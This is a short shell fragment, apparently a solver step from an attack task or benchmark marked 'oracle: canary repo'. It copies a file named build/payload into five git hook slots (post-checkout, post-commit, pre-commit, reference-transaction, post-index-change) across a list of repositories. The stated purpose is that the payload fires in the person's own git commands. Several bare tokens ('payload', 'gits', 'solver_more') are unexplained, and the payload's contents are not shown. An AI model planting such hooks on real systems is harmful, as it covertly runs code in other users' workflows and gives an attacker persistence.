# Hooks in the common git directory fire in the runner's and in the person's own commands.
# oracle: canary repo
payload
gits | while read -r each; do
    mkdir -p "$each/hooks"
    for hook in post-checkout post-commit pre-commit reference-transaction post-index-change; do
        cp build/payload "$each/hooks/$hook"
    done
done
solver_more </dev/null
